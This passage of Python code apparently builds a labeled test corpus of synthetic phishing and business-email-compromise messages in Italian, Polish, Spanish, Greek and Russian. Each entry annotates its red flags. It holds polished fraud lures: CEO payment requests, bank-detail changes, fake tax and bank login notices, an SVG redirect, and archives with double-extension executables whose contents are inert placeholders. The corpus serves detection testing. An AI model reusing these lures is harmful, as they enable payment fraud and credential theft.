  **{"from": ("Thomas Berger", "thomas.berger@example.com")},
  reply_to=("Thomas Berger", "thomas.berger@examplegroup-legal.com"),
  to=[P("bianchi")],
  subject="Operazione riservata",
  text="""Buongiorno Marco,

ti scrivo personalmente perché ho bisogno della tua massima discrezione. Stiamo chiudendo un'operazione di acquisizione in Italia che non è ancora stata comunicata né al personale né alla Consob, e l'advisor legale ci chiede di versare oggi un deposito cauzionale.

Ti contatterà in mattinata l'avv. Lorenzo Ferraro dello studio che segue l'operazione per darti le istruzioni e le coordinate. Ti chiedo di seguire le sue indicazioni e di non parlarne con nessuno, nemmeno con Giulia o con Claudia in sede, fino all'annuncio ufficiale.

Rispondimi solo via e-mail: sono in riunione tutta la giornata.

Grazie per la collaborazione,
Thomas Berger
CEO Example Group""",
  what="CEO fraud in Italian to the Italian accountant: confidential acquisition, 'lawyer will call', secrecy from the CFO.",
  why="ATTACK (BEC): exact CEO address spoofed from an unknown host (HELO WIN-HQ7K2N1B4TA, no rDNS) instead of the internal relay; Return-Path and Reply-To at unrelated domains; classic secrecy and urgency script.")

_svg_url = "https://polyresin-docs.com/fattura/FPR-2026-2291"
M(kind="attack", file="21-it-polyresin-lookalike-fattura-svg.eml", lang="it", cs="utf-8", cte="quoted-printable",
  date="2026-12-02 10:07:45",
  infra=bulk("m47-102.mailgun.net", "m47-102.mailgun.net", "198.61.254.102", bstyle="java", hdrs=["X-Mailgun-Sid: WyJmcHIyMjkxIl0="], mid_dom="polyresin-italia.com"),
  return_path="bounce+1a77c3.fe90-giulia.romano=example.com@polyresin-italia.com",
  **{"from": ("PolyResin Italia S.r.l. - Amministrazione", "amministrazione@polyresin-italia.com")},
  to=[P("romano")],
  subject="Invio fattura n. FPR-2026-2291 del 01/12/2026",
  text="""Buongiorno,

in allegato la copia di cortesia della fattura n. FPR-2026-2291 del 01/12/2026 relativa alla fornitura di PA66 GF30 (DDT 4812 e 4830).

La fattura elettronica è stata regolarmente trasmessa tramite SdI. Per visualizzare il documento aprire l'allegato con il browser.

Cordiali saluti

Ufficio Amministrazione
PolyResin Italia S.r.l.""",
  atts=[att_part("Fattura_FPR-2026-2291.svg", "image/svg+xml", redirect_svg(_svg_url, "giulia.romano@example.com"))],
  what="Courtesy copy of a resin supplier invoice delivered as an SVG file with embedded JavaScript redirect.",
  why="ATTACK (SVG smuggling / redirect): look-alike polyresin-italia.com (real supplier: polyresinitalia.it, see business/19) via Mailgun; an invoice never arrives as SVG; the script redirects to polyresin-docs.com with the victim address.")


# ===========================================================================
# ATTACK - Polish
# ===========================================================================

M(kind="attack", file="22-pl-partner-logistik-lookalike-zmiana-rachunku.eml", lang="pl", cs="iso-8859-2", cte="quoted-printable",
  date="2026-11-06 12:19:08",
  infra=server("s58.cyber-folks.pl", "s58.cyber-folks.pl", "195.78.66.58", "partner-logistik.com.pl", bstyle="outlook",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "Thread-Index: AdtQ3kR1vY2bXz9aT0Wc8mN4pL7eFg==", "Content-Language: pl"]),
  **{"from": ("Tadeusz Zieliński", "t.zielinski@partner-logistik.com.pl")},
  to=[P("nowak")], cc=[P("kowalski")],
  subject="Zmiana rachunku bankowego - Partner Logistik sp. z o.o.",
  text="""Dzień dobry Pani Agnieszko,

uprzejmie informuję, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 09.11.2026 r. prosimy o dokonywanie wszystkich płatności na nowy rachunek:

Partner Logistik sp. z o.o.
Santander Bank Polska S.A.
%s

Rachunek został już zgłoszony do wykazu podatników VAT (biała lista) - aktualizacja w wykazie może potrwać do 3 dni roboczych, dlatego prosimy nie wstrzymywać płatności z tego powodu. Płatności w mechanizmie podzielonej płatności proszę kierować również na ten rachunek.

Dotyczy to także faktur FV/2026/10/1187 i FV/2026/10/1214 (razem 61 470,90 zł), których termin mija w przyszłym tygodniu.

Proszę o potwierdzenie zmiany w kartotece kontrahenta.

Z poważaniem
Tadeusz Zieliński
Kierownik ds. Spedycji Drogowej
Partner Logistik sp. z o.o.
ul. Logistyczna 7, 55-040 Bielany Wrocławskie
tel. +48 71 311 84 20, kom. +48 601 442 187
NIP %s""" % (nrb(IBAN_PARTNER_FRAUD), NIP_PARTNER),
  what="Supplier bank-account change from a look-alike domain of the Polish forwarder, pre-empting the VAT white-list check.",
  why="ATTACK (BEC): partner-logistik.com.pl instead of partner-logistik.pl, hosted on shared hosting; explains away that the account is not on the VAT white list; pushes two open invoices to the new account. Compare business/23 (genuine change).")

_ksef_url = "https://ksef-podatki-gov.pl/web/weryfikacja?nip=" + NIP_EXAMPLE_PL
M(kind="attack", file="23-pl-ksef-odrzucona-faktura-token.eml", lang="pl", cs="utf-8", cte="base64",
  date="2026-11-10 07:02:36",
  infra=server("mail.ksef-podatki-gov.pl", "static.211.98.21.65.clients.your-server.de", "65.21.98.211", "ksef-podatki-gov.pl", bstyle="php",
               hdrs=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
  return_path="powiadomienia@ksef-podatki-gov.pl",
  **{"from": ("Krajowy System e-Faktur (KSeF)", "powiadomienia@ksef-podatki-gov.pl")},
  to=[P("nowak")],
  subject="KSeF: faktura FA/2026/11/0412 odrzucona - wymagana ponowna autoryzacja tokenu",
  text="""Ministerstwo Finansów - Krajowy System e-Faktur

Podatnik: EXAMPLE POLSKA SP. Z O.O., NIP %s

Faktura ustrukturyzowana FA/2026/11/0412 wystawiona przez Państwa spółkę została odrzucona przez system (kod błędu 9105: nieważny token uwierzytelniający).

Zgodnie z komunikatem MF z dnia 02.11.2026 tokeny wygenerowane przed 1 listopada 2026 r. wymagają ponownej autoryzacji. Do tego czasu wysyłka faktur z Państwa systemu ERP jest wstrzymana.

Ponowna autoryzacja (profil zaufany lub podpis kwalifikowany):
%s

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.""" % (NIP_EXAMPLE_PL, _ksef_url),
  html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="background:#d2202e;color:#fff;padding:10px 16px"><b>Ministerstwo Finansów</b> | Krajowy System e-Faktur</div>
<p>Podatnik: <b>EXAMPLE POLSKA SP. Z O.O.</b>, NIP %s</p>
<p>Faktura ustrukturyzowana <b>FA/2026/11/0412</b> wystawiona przez Państwa spółkę została <b>odrzucona</b> przez system (kod błędu 9105: nieważny token uwierzytelniający).</p>
<p>Zgodnie z komunikatem MF z dnia 02.11.2026 tokeny wygenerowane przed 1 listopada 2026 r. wymagają ponownej autoryzacji. Do tego czasu wysyłka faktur z Państwa systemu ERP jest wstrzymana.</p>
<p><a href="%s" style="background:#1f4e9c;color:#fff;padding:9px 18px;text-decoration:none">Autoryzuj token</a></p>
<p style="font-size:11px;color:#777">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.</p>
</body></html>""" % (NIP_EXAMPLE_PL, _ksef_url),
  what="Fake Polish KSeF (national e-invoicing) notice: invoice rejected, token must be re-authorised via Profil Zaufany / qualified signature.",
  why="ATTACK (credential phishing): ksef-podatki-gov.pl is not podatki.gov.pl; Hetzner VPS with PHPMailer; KSeF does not e-mail rejections this way. Topical since KSeF became mandatory in 2026.")

M(kind="attack", file="24-pl-ipko-biznes-certyfikat.eml", lang="pl", cs="windows-1250", cte="quoted-printable",
  date="2026-11-18 14:44:50",
  infra=bulk("a8-61.smtp-out.eu-central-1.amazonses.com", "a8-61.smtp-out.eu-central-1.amazonses.com", "69.169.224.61", bstyle="java",
             hdrs=["Feedback-ID: ::1.eu-central-1.Hk2vT9pQ4mWz8cN1rY7xLd3sB0fEaGjU6oI5nV2tKcA=:AmazonSES"], mid_dom="eu-central-1.amazonses.com"),
  return_path="01070193a1f2c3d4-5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9-000000@eu-central-1.amazonses.com",
  **{"from": ("iPKO biznes", "powiadomienia@ipkobiznes-pkobp.com")},
  to=[P("kowalski")],
  subject="iPKO biznes: certyfikat podpisu wygasa 27.11.2026",
  text="""Szanowny Użytkowniku,

certyfikat służący do autoryzacji dyspozycji w serwisie iPKO biznes dla firmy EXAMPLE POLSKA SP. Z O.O. wygasa 27.11.2026 r.

Po tej dacie nie będzie możliwe zatwierdzanie przelewów, w tym paczek płacowych i przelewów do ZUS/US.

Odnowienie certyfikatu zajmuje kilka minut i wymaga zalogowania się oraz potwierdzenia operacji w aplikacji mobilnej:
https://ipkobiznes-pkobp.com/odnow-certyfikat?id=PL4471

Z poważaniem
Zespół iPKO biznes
PKO Bank Polski S.A.""",
  html="""<html><body style="font-family:Arial,sans-serif;font-size:13px">
<div style="background:#003574;color:#fff;padding:12px 18px;font-size:16px">iPKO biznes</div>
<p>Szanowny Użytkowniku,</p>
<p>certyfikat służący do autoryzacji dyspozycji w serwisie iPKO biznes dla firmy <b>EXAMPLE POLSKA SP. Z O.O.</b> wygasa <b>27.11.2026 r.</b></p>
<p>Po tej dacie nie będzie możliwe zatwierdzanie przelewów, w tym paczek płacowych i przelewów do ZUS/US.</p>
<p>Odnowienie certyfikatu zajmuje kilka minut i wymaga zalogowania się oraz potwierdzenia operacji w aplikacji mobilnej.</p>
<p><a href="https://ipkobiznes-pkobp.com/odnow-certyfikat?id=PL4471" style="background:#003574;color:#fff;padding:8px 16px;text-decoration:none">Odnów certyfikat</a></p>
<p>Z poważaniem<br>Zespół iPKO biznes<br>PKO Bank Polski S.A.</p></body></html>""",
  what="Fake PKO BP iPKO biznes certificate renewal; asks to log in and approve in the mobile app (real-time AiTM).",
  why="ATTACK (banking credential phishing): ipkobiznes-pkobp.com via Amazon SES, not pkobp.pl; approval in the app hands over a live session; payroll/ZUS pressure.")

_zip_a25 = zip_bytes([("Zapytanie_ofertowe_2026-11-187_rysunki.pdf.lnk", INERT.encode()),
                      ("Specyfikacja_techniczna.txt", "Wymagania: DC04, grubość 2,0 mm, cynk-nikiel 8 µm\n".encode("utf-8"))], password="187")
M(kind="attack", file="25-pl-zapytanie-ofertowe-zip-lnk.eml", lang="pl", cs="iso-8859-2", cte="base64",
  date="2026-11-24 09:58:14",
  infra=server("s62.home.pl", "s62.home.pl", "46.242.245.62", "metalform-olesnica.pl", bstyle="tb",
               hdrs=["User-Agent: Mozilla Thunderbird"], inner="[31.42.171.18]"),
  **{"from": ("Marek Dąbrowski - Metalform", "m.dabrowski@metalform-olesnica.pl")},
  to=[P("kowalski")],
  subject="Zapytanie ofertowe nr 2026/11/187 - elementy tłoczone (ok. 120 tys. szt./rok)",
  text="""Dzień dobry,

w imieniu naszego klienta z branży motoryzacyjnej (Tier-1) zwracamy się z zapytaniem ofertowym na elementy tłoczone z blachy DC04 z powłoką cynk-nikiel, roczny wolumen ok. 120 000 szt., start produkcji Q2/2027.

Rysunki 2D/3D oraz specyfikacja w załączonym archiwum (hasło: 187 - dokumenty objęte NDA).

Prosimy o ofertę cenową wraz z kosztem oprzyrządowania i terminem PPAP do 04.12.2026.

Pozdrawiam
Marek Dąbrowski
Zakupy
Metalform Oleśnica sp. z o.o.
tel. +48 71 314 20 55""",
  atts=[att_part("Zapytanie_2026-11-187.zip", "application/zip", _zip_a25)],
  what="Request-for-quotation lure with a password-protected ZIP containing a .pdf.lnk shortcut (inert placeholder) 'under NDA'.",
  why="ATTACK (malware dropper): compromised small-company mailbox on home.pl used from an unrelated IP; encrypted archive with password in the body; .lnk with double extension; attractive sales lead as bait.")

M(kind="attack", file="26-pl-zmiana-konta-wynagrodzenie-wp.eml", lang="pl", cs="utf-8", cte="quoted-printable",
  date="2026-11-25 21:14:37",
  infra=server("mx.wp.pl", "mx.wp.pl", "212.77.101.12", "wp.pl", bstyle="java", hdrs=["X-WP-MailID: 8f3c1d2a4b5e6f7081920a1b2c3d4e5f", "X-WP-AV: skaner antywirusowy Poczty Wirtualnej Polski", "X-WP-SPAM: NO 0000000 [4QP0]"]),
  **{"from": ("Katarzyna Wiśniewska", "kasia.wisniewska88@wp.pl")},
  to=[P("nowak")],
  subject="Zmiana numeru konta do wynagrodzenia",
  text="""Dzień dobry Pani Agnieszko,

zmieniłam bank i chciałabym, żeby wynagrodzenie za listopad wpłynęło już na nowe konto:

%s (Alior Bank)

Piszę z prywatnej poczty, bo w pracy nie mam dostępu do Outlooka na telefonie, a jestem dziś na L4. Czy mogłaby Pani potwierdzić tutaj, że zmiana zostanie uwzględniona przy najbliższej liście płac? Oryginał oświadczenia podpiszę po powrocie.

Dziękuję i pozdrawiam
Katarzyna Wiśniewska""" % nrb(IBAN_PL_PAYROLL_FRAUD),
  what="Payroll diversion in Polish: 'quality engineer' on sick leave asks to change her salary account via a wp.pl address.",
  why="ATTACK (payroll BEC): unknown free-mail address, reply requested to that address, signed statement 'later', new account before payroll cut-off. Compare business/25 (genuine private-address mail from the same colleague, different address and no payment change).")


# ===========================================================================
# ATTACK - Spanish
# ===========================================================================

M(kind="attack", file="27-es-dehu-notificacion-aeat-pendiente.eml", lang="es", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-05 08:26:11",
  infra=server("vmi2231874.contaboserver.net", "vmi2231874.contaboserver.net", "185.209.229.74", "dehu-notificaciones.es", bstyle="php",
               hdrs=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
  **{"from": ("DEHú - Notificaciones electrónicas", "avisos@dehu-notificaciones.es")},
  to=[P("martinez")],
  subject="Aviso de puesta a disposición de notificación - AEAT (ref. 2026NOT4471930)",
  text="""Dirección Electrónica Habilitada única (DEHú)

Le informamos de que tiene a su disposición una notificación de la Agencia Estatal de Administración Tributaria dirigida a:

Titular: EXAMPLE IBERICA S.L.
Organismo emisor: AEAT - Dependencia Regional de Gestión Tributaria de Aragón
Concepto: Requerimiento de información - Modelo 303, 3T/2026
Referencia: 2026NOT4471930

Dispone de 10 días naturales para acceder al contenido. Transcurrido dicho plazo, la notificación se entenderá rechazada (art. 43.2 Ley 39/2015) y continuará el procedimiento.

Acceso a la notificación:
https://dehu-notificaciones.es/acceso?ref=2026NOT4471930

Este es un mensaje automático, por favor no responda a este correo.""",
  what="Fake DEHú notice of an AEAT tax notification (VAT model 303 request) with a link to a look-alike portal.",
  why="ATTACK (credential/certificate phishing): the real DEHú is dehu.redsara.es and mails from correo.gob.es; this comes from dehu-notificaciones.es on a Contabo VPS with PHPMailer. Compare business/29 (genuine DEHú notice).")

_valtra_html = phish_page("RC-26-0418 - Informe 8D", "OneDrive for Business", "laura.garcia@example.com",
                          "https://valtra-docs-share.com/od/rc260418",
                          "Inicie sesión con su cuenta de empresa para ver el informe de reclamación y las fotos del defecto.")
M(kind="attack", file="28-es-reclamacion-calidad-lookalike-html.eml", lang="es", cs="utf-8", cte="base64",
  date="2026-11-12 16:32:08",
  infra=gmail(50, "wr1", "209.85.221"),
  **{"from": ("Ana Belén Ruiz | Valtra Automoción", "ab.ruiz@valtra-automocion.com")},
  to=[P("garcia")], cc=[P("becker")],
  subject="Reclamación de calidad RC-26-0418 - lote 2611-07 (soportes 4471-220) - solicitud 8D",
  text="""Buenas tardes Laura,

os informamos de que en la línea de montaje de Martorell hemos detectado soportes 4471-220 del lote 2611-07 con rebaba en el taladro de Ø8,2. Hemos bloqueado 2.300 piezas en almacén y en línea.

Adjunto el informe de reclamación RC-26-0418 con las fotos del defecto. Necesitamos la contención (D3) antes de mañana a las 12:00 y una propuesta de clasificación en nuestras instalaciones.

Por favor, confirmad la recepción.

Saludos,

Ana Belén Ruiz
Calidad Proveedores (SQE)
Valtra Automoción S.A.
Tel. +34 937 74 28 10""",
  atts=[att_part("RC-26-0418_Informe_8D.html", "text/html", _valtra_html)],
  what="Customer quality complaint (8D, containment by noon) with an 'informe' HTML attachment that imitates a OneDrive login.",
  why="ATTACK (HTML-attachment phishing): valtra-automocion.com is a look-alike of the customer's valtra-automocion.es, hosted on Google Workspace; a real claim comes with PDF/photos or via the customer portal (compare business/27).")

M(kind="attack", file="29-es-ceo-fraud-aval-aduana-valencia.eml", lang="es", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-20 09:11:54",
  infra=server("mta-07.privateemail.com", "mta-07.privateemail.com", "198.54.127.87", "exampie.com", bstyle="apple",
               hdrs=["X-Mailer: iPhone Mail (22B91)"], inner="[172.58.14.203]"),
  **{"from": ("Thomas Berger", "thomas.berger@exampie.com")},
  to=[P("martinez")],
  subject="Transferencia urgente - aval aduanero Valencia",
  text="""Hola Javier,

te escribo directamente porque Laura está de viaje. Tenemos retenidos en el puerto de Valencia los dos contenedores de bobinas de acero de Turquía por una discrepancia en el valor en aduana, y el agente de aduanas necesita hoy un depósito de garantía para liberar la mercancía, si no tendremos parada de línea en Zaragoza el lunes.

Importe: 38.450,00 EUR
Beneficiario: Transitarios Levante Global Lda.
IBAN: %s
Concepto: Garantia despacho MRN 26ES00461110098231

Claudia ya está informada, lo regularizamos en el cierre de mes. Por favor, mándame el justificante en cuanto esté hecha. Estoy en reuniones con el cliente, solo por correo.

Gracias,
Thomas

Enviado desde mi iPhone""" % iban_fmt(IBAN_TRANSITES_FRAUD),
  what="CEO fraud in Spanish: urgent 'customs guarantee' payment to release steel coils in Valencia port, paid to a Portuguese IBAN.",
  why="ATTACK (BEC): look-alike domain exampie.com ('i' for 'l') on Namecheap Private Email; bypasses the local office manager and the CFO ('already informed'); foreign beneficiary; plausible MRN and trade context.")

M(kind="attack", file="30-es-bbva-netcash-dispositivo-firma.eml", lang="es", cs="utf-8", cte="quoted-printable",
  date="2026-11-23 07:54:20",
  infra=bulk("mail180-7.suw31.mandrillapp.com", "mail180-7.suw31.mandrillapp.com", "198.2.180.7", bstyle="mc",
             hdrs=["X-Mandrill-User: md_31847729", "X-Report-Abuse: Please forward a copy of this message, including all headers, to abuse@mandrill.com"],
             mid_dom="mandrillapp.com"),
  return_path="bounce-md_31847729.6572f1a3.v1-4d2b9e71c0a84f5f8e31@mandrillapp.com",
  **{"from": ("BBVA Net cash", "avisos@bbva-netcash-empresas.com")},
  to=[P("garcia")],
  subject="Net cash: tiene 3 órdenes pendientes de firma",
  text="""BBVA Net cash

Estimado/a cliente:

Tiene 3 órdenes de pago pendientes de firma en Net cash para EXAMPLE IBERICA S.L. (remesa de nóminas y 2 transferencias a proveedores).

Debido a la actualización del sistema de firma, es necesario volver a vincular su dispositivo antes de firmar. Si no lo hace antes del 25/11/2026, las órdenes quedarán anuladas.

Vincular dispositivo: https://bbva-netcash-empresas.com/firma/vincular?c=ES4471

Un saludo,
BBVA Empresas""",
  html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#121212">
<div style="background:#004481;color:#fff;padding:14px 20px;font-size:18px">BBVA Net cash</div>
<p>Estimado/a cliente:</p>
<p>Tiene <b>3 órdenes de pago pendientes de firma</b> en Net cash para <b>EXAMPLE IBERICA S.L.</b> (remesa de nóminas y 2 transferencias a proveedores).</p>
<p>Debido a la actualización del sistema de firma, es necesario volver a vincular su dispositivo antes de firmar. Si no lo hace antes del <b>25/11/2026</b>, las órdenes quedarán anuladas.</p>
<p><a href="https://bbva-netcash-empresas.com/firma/vincular?c=ES4471" style="background:#1973b8;color:#fff;padding:10px 20px;text-decoration:none">Vincular dispositivo</a></p>
<p>Un saludo,<br>BBVA Empresas</p></body></html>""",
  what="Fake BBVA Net cash notice: pending signatures, 'relink your signing device'.",
  why="ATTACK (banking phishing): bbva-netcash-empresas.com sent through Mandrill; BBVA uses bbva.es; device re-binding hands over the signature factor; payroll deadline pressure.")

M(kind="attack", file="31-es-transportes-ebro-factura-nuevo-iban-hotmail.eml", lang="es", cs="iso-8859-1", cte="quoted-printable",
  date="2026-12-01 12:40:03",
  infra=hotmail("db8eur05olkn2102", "40.92.89.102"),
  **{"from": ("Transportes Ebro - Administración", "admon.transportesebro@hotmail.com")},
  to=[P("martinez")],
  subject="Factura F26-1187 vencida / nuevos datos bancarios",
  text="""Buenos días Javier,

le escribimos desde administración porque tenemos problemas con el servidor de correo de la empresa desde el fin de semana; mientras lo arreglan usamos esta cuenta.

Nos consta pendiente la factura F26-1187 (portes Zaragoza - Martorell, noviembre) por importe de 6.842,35 euros, vencida el 28/11. Le rogamos que la abone en nuestra nueva cuenta, ya que la anterior está bloqueada por el cambio de entidad:

Titular: Transportes Ebro S.L.
IBAN: %s

Adjuntamos la factura. Cualquier cosa, responda a este correo.

Un saludo,
Marta Gil
Administración - Transportes Ebro S.L.""" % iban_fmt(IBAN_EBRO_FRAUD),
  atts=[pdf_att("Factura_F26-1187.pdf", ["Transportes Ebro S.L. - Factura F26-1187", "Portes Zaragoza - Martorell, noviembre 2026", "Total: 6.842,35 EUR",
                                          "IBAN: " + iban_fmt(IBAN_EBRO_FRAUD), "[evaluation placeholder]"])],
  what="Freight-forwarder invoice with changed bank details, sent from a Hotmail address 'because the company server is down'.",
  why="ATTACK (invoice fraud): the real Transportes Ebro mails from transportesebro.es (see business/28); free-mail excuse; new IBAN differs from the known one; reply to the free-mail account.")


# ===========================================================================
# ATTACK - Greek
# ===========================================================================

M(kind="attack", file="32-el-aade-myaade-epistrofi-fpa.eml", lang="el", cs="iso-8859-7", cte="quoted-printable",
  date="2026-11-09 09:37:28", tz="+0200",
  infra=server("mail.aade-myaade.com", "unknown", "164.92.214.37", "aade-myaade.com", bstyle="php",
               hdrs=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"], tls="12"),
  **{"from": ("ΑΑΔΕ - myAADE", "noreply@aade-myaade.com")},
  to=[P("georgiou")],
  subject="Ειδοποίηση: Εκκρεμής επιστροφή ΦΠΑ - απαιτείται επιβεβαίωση στοιχείων",
  text="""ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
myAADE - Ψηφιακή Πύλη

Αξιότιμε/η φορολογούμενε,

για την επιχείρηση EXAMPLE HELLAS Μ.Ε.Π.Ε. (ΑΦΜ %s) έχει εγκριθεί επιστροφή πιστωτικού υπολοίπου ΦΠΑ ύψους 8.214,60 €.

Για την πίστωση του ποσού απαιτείται επιβεβαίωση του λογαριασμού IBAN της επιχείρησης με τους κωδικούς TAXISnet έως τις 16/11/2026. Σε διαφορετική περίπτωση το ποσό θα συμψηφιστεί με μελλοντικές οφειλές.

Επιβεβαίωση στοιχείων:
https://aade-myaade.com/taxisnet/epistrofi?afm=%s

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων

Το μήνυμα αυτό έχει σταλεί αυτόματα. Παρακαλούμε μην απαντάτε.""" % (AFM_EXAMPLE_GR, AFM_EXAMPLE_GR),
  what="Fake Greek tax authority (AADE/myAADE) VAT-refund notice asking to confirm the IBAN with TAXISnet credentials.",
  why="ATTACK (credential phishing): aade-myaade.com on a DigitalOcean host without rDNS; AADE uses aade.gr/gsis.gr and never collects TAXISnet passwords by mail; refund as bait.")

M(kind="attack", file="33-el-thessmet-lookalike-allagi-iban.eml", lang="el", cs="windows-1253", cte="quoted-printable",
  date="2026-11-16 12:05:46", tz="+0200",
  infra=server("mail.thessmet.com.gr", "vps-34a1c9.cloud.vps-hosting.eu", "91.132.139.58", "thessmet.com.gr", bstyle="outlook",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: el"]),
  **{"from": ("Θεσσαλική Μεταλλουργική Α.Ε. - Λογιστήριο", "logistirio@thessmet.com.gr")},
  to=[P("georgiou")], cc=[P("papadopoulos")],
  subject="Αλλαγή τραπεζικού λογαριασμού - Θεσσαλική Μεταλλουργική Α.Ε.",
  text="""Καλημέρα σας κα Γεωργίου,

σας ενημερώνουμε ότι, λόγω ελέγχου που διενεργείται στον λογαριασμό μας στην Τράπεζα Πειραιώς, οι πληρωμές των τιμολογίων μας θα πρέπει προσωρινά να γίνονται στον λογαριασμό της θυγατρικής μας τράπεζας στη Βουλγαρία:

Δικαιούχος: Thessaliki Metallourgiki SA
IBAN: %s
BIC: STSABGSF

Παρακαλούμε τα τιμολόγια 1482 και 1497 (σύνολο 23.906,40 €) να εξοφληθούν στον νέο λογαριασμό έως την Παρασκευή. Η επίσημη επιστολή θα σταλεί με courier.

Ευχαριστούμε για τη συνεργασία.

Με εκτίμηση,
Δέσποινα Καραγιάννη
Λογιστήριο
Θεσσαλική Μεταλλουργική Α.Ε.
Τηλ. 2310 571 330""" % iban_fmt(IBAN_THESS_FRAUD),
  what="Greek steel supplier asks to pay two invoices 'temporarily' to a Bulgarian account.",
  why="ATTACK (supplier impersonation): look-alike thessmet.com.gr (real: thessmet.gr, business/32) on a generic VPS; foreign IBAN in another name form; 'audit' pretext, letter by courier later.")

_qr2 = "https://nbg-ibank-business.com/device/confirm?id=GR4471"
QR_URLS["34"] = _qr2
M(kind="attack", file="34-el-qr-pdf-ethniki-ibank-business.eml", lang="el", cs="utf-8", cte="base64",
  date="2026-11-21 10:18:33", tz="+0200",
  infra=server("server27.dnhost.gr", "server27.dnhost.gr", "185.4.133.27", "kalamaria-pharmacy.gr", bstyle="rc",
               hdrs=["User-Agent: Roundcube Webmail/1.6.6"], inner="[102.89.45.12]"),
  **{"from": ("Εθνική Τράπεζα - ibank Business", "info@kalamaria-pharmacy.gr")},
  to=[P("papadopoulos")],
  subject="Επιβεβαίωση συσκευής ibank Business - EXAMPLE HELLAS",
  text="""Αγαπητέ πελάτη,

σύμφωνα με τις νέες απαιτήσεις ασφαλείας (PSD3), η συσκευή που χρησιμοποιείτε για την έγκριση συναλλαγών στο ibank Business πρέπει να επιβεβαιωθεί έως 28/11/2026.

Στο συνημμένο έγγραφο θα βρείτε τον προσωπικό σας κωδικό QR. Σαρώστε τον με την κάμερα του κινητού σας και ακολουθήστε τις οδηγίες.

Με εκτίμηση,
Εθνική Τράπεζα της Ελλάδος
Εξυπηρέτηση Επιχειρήσεων""",
  atts=[pdf_att("NBG_ibank_Business_epivevaiosi.pdf",
                ["National Bank of Greece - ibank Business", "Device confirmation / Epivevaiosi syskevis", "",
                 "Scan the QR code with your mobile phone camera.", "Reference: GR4471 - valid until 28/11/2026"],
                qr=qr_matrix(_qr2), creator="Microsoft Word")],
  what="Quishing via PDF: fake National Bank of Greece business-banking 'device confirmation' with the QR code drawn inside the PDF.",
  why="ATTACK (QR-in-PDF phishing): sent from a compromised pharmacy webmail on Greek shared hosting, submission from a Nigerian IP; the QR code (decodable) points to nbg-ibank-business.com, not nbg.gr; 'PSD3' pretext.")

def proton():
    inf = Infra("mail-4322.protonmail.ch", "mail-4322.protonmail.ch", "185.70.43.22", bstyle="gmail", label="Proton Mail")
    inf.mid = lambda r, frm: "<%s=@proton.me>" % ralnum(r, 86, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")
    inf.bstyle = "php"
    return inf


M(kind="attack", file="35-el-plastoprosopia-proistamenou-pliromi.eml", lang="el", cs="utf-8", cte="quoted-printable",
  date="2026-11-30 08:41:15", tz="+0200",
  infra=proton(),
  **{"from": ("Νίκος Παπαδόπουλος", "n.papadopoulos.example@proton.me")},
  to=[P("georgiou")],
  subject="Επείγον - πληρωμή σήμερα",
  text="""Ελένη καλημέρα,

είμαι σε σύσκεψη με τον πελάτη στην Αθήνα και δεν έχω πρόσβαση στο εταιρικό email από το κινητό, γι' αυτό σου γράφω από εδώ.

Πρέπει να γίνει σήμερα πληρωμή προκαταβολής 12.400 € στον νέο προμηθευτή ανταλλακτικών για το καλούπι, αλλιώς χάνουμε τη σειρά παραγωγής για Ιανουάριο. Ο κ. Berger το έχει εγκρίνει. Σου στέλνω σε λίγο τα στοιχεία του λογαριασμού.

Μπορείς να το κάνεις πριν τις 13:00; Μην με παίρνεις τηλέφωνο, είμαι μέσα στη σύσκεψη, απάντησέ μου εδώ.

Ευχαριστώ,
Νίκος""",
  what="Impersonation of the Greek office manager (Proton Mail) asking the local accountant for an urgent prepayment.",
  why="ATTACK (BEC): unknown Proton address with the manager's name; 'no access to corporate mail', 'don't call', claims CEO approval; bank details to follow.")


# ===========================================================================
# ATTACK - Russian
# ===========================================================================

_zip_a36 = zip_bytes([("Требование_15-11_41877_пояснения.pdf.exe", INERT.encode())])
M(kind="attack", file="36-ru-fns-trebovanie-poyasneniy-zip.eml", lang="ru", cs="windows-1251", cte="base64",
  date="2026-11-02 10:06:59", tz="+0300",
  infra=server("smtp.beget.com", "smtp.beget.com", "5.101.153.63", "stroymontazh-nn.ru", bstyle="rc",
               hdrs=["User-Agent: Roundcube Webmail/1.6.9"], inner="[91.245.226.11]"),
  **{"from": ("ФНС России - Межрайонная ИФНС № 18", "buh@stroymontazh-nn.ru")},
  to=[P("ivanova")],
  subject="Требование о представлении пояснений № 15-11/41877 (ст. 88 НК РФ)",
  text="""Уважаемый налогоплательщик!

Межрайонной ИФНС России № 18 по Нижегородской области в ходе камеральной налоговой проверки декларации по НДС за 3 квартал 2026 г. ООО «Экзампл Рус» (ИНН %s) выявлены расхождения с данными контрагентов.

В соответствии с п. 3 ст. 88 НК РФ Вам необходимо в течение 5 рабочих дней представить пояснения или внести исправления в налоговую декларацию. Перечень расхождений приведен в приложении к требованию.

Требование и приложение направлены во вложении (архив). Квитанцию о приеме требования необходимо передать в течение 6 рабочих дней.

Заместитель начальника инспекции
советник государственной гражданской службы РФ 2 класса
Е. В. Кузнецова""" % INN_EXAMPLE_RU,
  atts=[att_part("Требование_41877.zip", "application/zip", _zip_a36, cs="windows-1251")],
  what="Fake Russian tax service (FNS) demand for explanations under Art. 88 Tax Code with a ZIP containing a .pdf.exe (inert placeholder).",
  why="ATTACK (malware dropper): hacked construction-company mailbox on Beget with FNS as display name; FNS sends demands via the EDO operator (TKS), not as ZIP by e-mail; double extension.")

